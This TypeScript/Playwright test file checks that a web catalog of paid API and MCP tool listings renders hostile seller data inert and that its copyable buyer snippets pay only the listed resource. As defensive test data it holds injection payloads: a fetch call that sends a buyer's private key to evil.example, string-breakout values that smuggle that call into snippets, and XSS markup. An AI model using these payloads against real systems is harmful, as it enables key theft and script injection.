/**
 * Issue 43, item 5: nothing a seller writes runs in a buyer's hands. Listings with hostile
 * resources, titles, input names and tool hosts are shown by the web catalog in chromium; the page
 * runs none of it, and each copyable snippet, run in the browser as a buyer would run it (its
 * imports and the key stubbed), makes exactly one paid call, to exactly the listed resource, and
 * never reaches anything else (the key included).
 */
import assert from 'node:assert/strict';
import { transform } from 'esbuild';
import type { Page } from 'playwright-core';
import type { HttpListingInput, McpListingInput } from '../src/shapes/listingInput.js';
import { launchBrowser, type Browser } from './support/browser.js';
import { seed } from './support/discoveryFixtures.js';
import { startService, type ServiceWorld } from './support/sdkWorld.js';

const NETWORK = 'eip155:84532';
const USDC = '0x036CbD53842c5426634e7929541eC2318f3dCF7e';
const payment = { scheme: 'exact' as const, network: NETWORK, asset: USDC, amount: '1000', payTo: '0x1111111111111111111111111111111111111111' };
const PWN = "fetch('https://evil.example/'+process.env.BUYER_PRIVATE_KEY)";
/** Resources that pass URL parsing and, pasted between quotes, would close the string and call `fetch`. */
const RESOURCES = [
  `https://evil.example/x');${PWN};('`,
  `https://evil.example/x");${PWN};("`,
  `https://evil.example/x\`);${PWN};(\``,
  'https://evil.example/x\\\');fetch(1);//',
  `https://evil.example/${encodeURIComponent('\u2028')}${PWN}`,
];
const TITLE = `</code></pre><script>globalThis.pwned=1</script><img src=x onerror="globalThis.pwned=2">`;
const INPUT_NAMES = [`a\n${PWN}//`, `b\u2028${PWN}//`, `c*/${PWN}/*`, "d');" + PWN + "('"];

/**
 * The buyer's program, run in the page: the snippet's body as an async function of stubs for its
 * imports, the key and console; every paid call and every plain fetch is recorded.
 */
const RUN_IN_PAGE = `async (body) => {
  const paid = [];
  const fetched = [];
  const realFetch = globalThis.fetch;
  globalThis.fetch = (...args) => { fetched.push(args); };
  try {
    const stubs = {
      process: { env: { BUYER_PRIVATE_KEY: '0xSECRET' } },
      privateKeyToAccount: (key) => ({ key }),
      x402Client: class { register() { return this; } },
      registerExactEvmScheme: () => undefined,
      UptoEvmScheme: class {},
      wrapFetchWithPayment: () => async (...args) => { paid.push(args); return { status: 200, json: async () => ({}) }; },
      console: { log: () => undefined },
    };
    const run = new Function(...Object.keys(stubs), 'return (async () => {\\n' + body + '\\n})();');
    await run(...Object.values(stubs));
  } finally {
    globalThis.fetch = realFetch;
  }
  return { paid, fetched };
}`;

describe('web catalog: hostile listing data stays inert in chromium (issue 43, item 5)', function () {
  this.timeout(90_000);
  let world: ServiceWorld;
  let browser: Browser;
  let page: Page;
  let ids: string[] = [];

  before(async () => {
    world = await startService();
    const http: HttpListingInput[] = RESOURCES.map((resource, i) => ({
      type: 'http',
      resource,
      payment: { ...payment, ...(i === 1 ? { scheme: 'upto' as const, network: `eip155:84532` } : {}) },
      describe: { title: TITLE, description: TITLE, tags: ['hostile'], inputs: Object.fromEntries(INPUT_NAMES.map((name) => [name, 'string'])) },
    }));
    const mcp: McpListingInput[] = ['evil.example', 'evil.example:8443'].map((host, i) => ({
      type: 'mcp',
      resource: `mcp://${host}/tool_${i}`,
      name: `tool_${i}`,
      title: TITLE,
      description: TITLE,
      inputSchema: { type: 'object', properties: Object.fromEntries(INPUT_NAMES.map((name) => [name, { type: 'string' }])) },
      payment,
    }));
    ids = await seed(world.h, [...http, ...mcp], { source: 'import' });
    browser = await launchBrowser();
    page = await browser.context.newPage();
    page.on('pageerror', (err) => assert.fail(`script error in the page: ${err.message}`));
    // The page's CSP blocks any other origin; a request that tries anyway is recorded and refused.
    await page.route((url) => !url.toString().startsWith(world.service.url), (route) => route.abort());
  });
  after(async () => {
    await browser?.close();
    await world?.close();
  });

  /** Opens a listing page and checks the page ran nothing of the seller's. */
  async function openListing(id: string): Promise<void> {
    const outside: string[] = [];
    page.on('request', (r) => void (r.url().startsWith(world.service.url) ? undefined : outside.push(r.url())));
    await page.goto(`${world.service.url}/listings/${id}`);
    await page.waitForSelector('.listing');
    assert.equal(await page.evaluate(() => (globalThis as any).pwned), undefined, 'no seller markup ran');
    assert.equal(await page.locator('.listing script, .listing img[src="x"]').count(), 0);
    assert.deepEqual(outside, []);
    page.removeAllListeners('request');
  }

  /**
   * Runs an HTTP snippet in the page as a buyer's program: the three import lines (fixed text,
   * never listing data) are checked and replaced by stubs, TypeScript is stripped by esbuild, and
   * every call the program makes is recorded.
   */
  async function runSnippet(snippet: string): Promise<{ paid: unknown[]; fetched: unknown[] }> {
    const lines = snippet.split('\n');
    assert.match(lines[0]!, /^import \{ wrapFetchWithPayment, x402Client \} from '@x402\/fetch';$/);
    assert.match(lines[1]!, /^import \{ (registerExactEvmScheme|UptoEvmScheme) \} from '@x402\/evm\/(exact|upto)\/client';$/);
    assert.match(lines[2]!, /^import \{ privateKeyToAccount \} from 'viem\/accounts';$/);
    const { code } = await transform(lines.slice(3).join('\n'), { loader: 'ts' });
    // A string, not a function: tsx compiles functions with helpers (`__name`) the page has not got.
    return page.evaluate(`(${RUN_IN_PAGE})(${JSON.stringify(code)})`) as Promise<{ paid: unknown[]; fetched: unknown[] }>;
  }

  it('HTTP listings: the page runs no seller markup, and the snippet pays exactly the listed resource and nothing else', async () => {
    for (const [i, id] of ids.slice(0, RESOURCES.length).entries()) {
      await openListing(id);
      const snippet = (await page.locator('.code pre').first().textContent())!;
      const listed = (await (await fetch(`${world.service.url}/discovery/resources/${id}`)).json()) as { resource: string };
      const { paid, fetched } = await runSnippet(snippet);
      assert.deepEqual(paid, [[listed.resource]], `snippet ${i}:\n${snippet}`);
      assert.deepEqual(fetched, [], `snippet ${i} reached fetch`);
      assert.doesNotMatch(snippet, /SECRET/);
    }
  });

  it('MCP listings: the configuration is JSON naming only a checked host, the call is JSON, the page runs nothing', async () => {
    for (const [i, id] of ids.slice(RESOURCES.length).entries()) {
      await openListing(id);
      const [config, call] = await page.locator('.code pre').allTextContents();
      const parsed = JSON.parse(config!) as { mcpServers: Record<string, { url: string }> };
      const [host, server] = Object.entries(parsed.mcpServers)[0]!;
      assert.equal(new URL(server.url).host, host, `config ${i}`);
      assert.equal(new URL(server.url).pathname, '/mcp');
      const args = (JSON.parse(call!) as { params: { arguments: Record<string, string> } }).params.arguments;
      assert.deepEqual(Object.keys(args).sort(), [...INPUT_NAMES].sort());
    }
  });
});
